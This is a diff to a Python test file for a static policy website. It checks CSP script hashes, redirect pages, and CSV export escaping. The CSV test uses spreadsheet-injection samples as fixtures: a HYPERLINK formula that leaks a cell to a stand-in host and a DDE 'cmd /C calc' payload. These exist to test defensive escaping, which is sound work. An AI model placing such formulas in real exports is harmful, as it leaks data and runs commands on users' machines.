@@ -2,20 +2,33 @@
 
 from __future__ import annotations
 
+import base64
+import copy
+import csv
+import datetime
+import hashlib
 import html.parser
+import io
 import pathlib
 import posixpath
 import re
 import urllib.parse
 
 from macros.csp import policy_for
-from macros.redirects import write_redirects
+from macros.opendata import measures_csv, measures_records
+from macros.registry import read_registry
+from macros.render import SiteModel
+
+# Script types a browser runs; others (application/json: Material's configuration) are data.
+EXECUTABLE = {"", "text/javascript", "application/javascript", "module"}
 
 
 class _Page(html.parser.HTMLParser):
     def __init__(self):
-        super().__init__()
+        super().__init__(convert_charrefs=False)  # script bodies exactly as served: they are hashed
         self.ids, self.links, self.csp = set(), [], None
+        self.inline_scripts, self.handlers = [], []
+        self._script = None  # the inline script being read: its chunks
 
     def handle_starttag(self, tag, attrs):
         attrs = dict(attrs)
@@ -27,6 +40,19 @@ class _Page(html.parser.HTMLParser):
             self.links.append(attrs["href"])
         if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy":
             self.csp = attrs["content"]
+        if tag == "script" and "src" not in attrs and (attrs.get("type") or "").lower() in EXECUTABLE:
+            self._script = []
+        self.handlers += [f"<{tag} {k}>" for k, v in attrs.items()
+                          if k.startswith("on") or (v or "").strip().lower().startswith("javascript:")]
+
+    def handle_data(self, data):
+        if self._script is not None:
+            self._script.append(data)
+
+    def handle_endtag(self, tag):
+        if tag == "script" and self._script is not None:
+            self.inline_scripts.append("".join(self._script))
+            self._script = None
 
 
 def _pages(site: pathlib.Path) -> dict[str, _Page]:
@@ -77,6 +103,26 @@ def test_every_page_has_a_strict_content_security_policy(built_site):
         assert "http" not in page.csp, name  # no other origin
 
 
+def test_the_policys_hashes_are_exactly_those_of_each_pages_inline_scripts(built_site):
+    """Each 'sha256-…' of script-src is the hash of one inline script of that page, and every inline
+    script has its hash there: a script the build changed after hashing would not run, and a stray hash
+    would allow a script that is not on the page."""
+    checked = 0
+    for name, page in _pages(built_site).items():
+        if page.csp is None:
+            assert page.inline_scripts == [], name  # redirect pages: no policy, and nothing to run
+            continue
+        script_src = next(d for d in page.csp.split("; ") if d.startswith("script-src")).split()[1:]
+        allowed = {s[len("'sha256-"):-1] for s in script_src if s.startswith("'sha256-")}
+        actual = {base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode()
+                  for body in page.inline_scripts}
+        assert allowed == actual, name
+        assert set(script_src) - {f"'sha256-{h}'" for h in allowed} == {"'self'", "'wasm-unsafe-eval'"}, name
+        assert page.handlers == [], (name, page.handlers[:3])  # a handler attribute no hash can allow
+        checked += len(actual)
+    assert checked > 200  # Material's inline scripts on every page, the checker's early start on two
+
+
 def test_the_policy_allows_only_the_pages_own_inline_scripts():
     policy = policy_for('<script>a()</script><script src="x.js"></script><script type="application/json">{}</script>')
     script_src = next(d for d in policy.split("; ") if d.startswith("script-src")).split()
@@ -84,11 +130,33 @@ def test_the_policy_allows_only_the_pages_own_inline_scripts():
     assert "'wasm-unsafe-eval'" in script_src  # Pyodide compiles WebAssembly
 
 
-def test_a_moved_measure_redirects_in_both_languages_to_a_page_that_exists(built_site, tmp_path):
-    written = write_redirects(tmp_path, {"ft-ai-2025/art-99": "ft-ai-2025/art-1"})
-    assert written == ["policies/ft-ai-2025/art-99/", "en/policies/ft-ai-2025/art-99/"]
-    for rel in written:
-        page = (tmp_path / rel / "index.html").read_text(encoding="utf-8")
-        target = re.search(r'url=([^"]+)"', page).group(1)
-        resolved = posixpath.normpath(posixpath.join(rel, target))
-        assert (built_site / resolved / "index.html").is_file(), (rel, target)
+def test_the_build_writes_a_redirect_page_for_each_redirect_of_the_registry(built_site, built_registry):
+    """The registry the build read (the real one plus a moved measure, tests/conftest.py): each old id has
+    a page in both languages that sends the reader to the new id's page, which exists."""
+    redirects = read_registry(built_registry)[0]["redirects"]
+    assert "ft-ai-2025/art-99" in redirects
+    for old, new in redirects.items():
+        for lang in ("", "en/"):
+            rel = f"{lang}policies/{old}/"
+            page = (built_site / rel / "index.html").read_text(encoding="utf-8")
+            target = re.search(r'http-equiv="refresh" content="0; url=([^"]+)"', page).group(1)
+            resolved = posixpath.normpath(posixpath.join(rel, target))
+            assert resolved == f"{lang}policies/{new}", (rel, target)
+            assert (built_site / resolved / "index.html").is_file(), (rel, target)
+            assert f'href="{target}"' in page  # a plain link too, for those who block refresh
+
+
+def test_a_spreadsheet_formula_in_the_data_reaches_the_csv_as_text(policies):
+    """Titles and texts starting with =, +, -, @ (a formula to Excel) are written with an apostrophe."""
+    policy = copy.deepcopy(next(p for p in policies if p["id"] == "ft-ai-2025"))
+    measure = policy["measures"][0]
+    measure["title"] = {"zh": "=1+1", "en": '=HYPERLINK("http://x.test/?"&A1,"click")'}
+    measure["text"] = {"zh": "@SUM(A1:A9)", "en": "+cmd|' /C calc'!A0"}
+    measure["number"] = {"zh": "-2+3", "en": "\t=1"}
+    rows = list(csv.DictReader(io.StringIO(measures_csv(measures_records(SiteModel([policy],
+                                                                                       datetime.date(2026, 1, 1)))))))
+    row = next(r for r in rows if r["id"] == measure["id"])
+    assert (row["title_zh"], row["title_en"]) == ("'=1+1", '\'=HYPERLINK("http://x.test/?"&A1,"click")')
+    assert (row["text_zh"], row["text_en"], row["number_zh"], row["number_en"]) == (
+        "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "'-2+3", "'\t=1")
+    assert row["largest_amount_yuan"].isdigit()  # numbers stay numbers
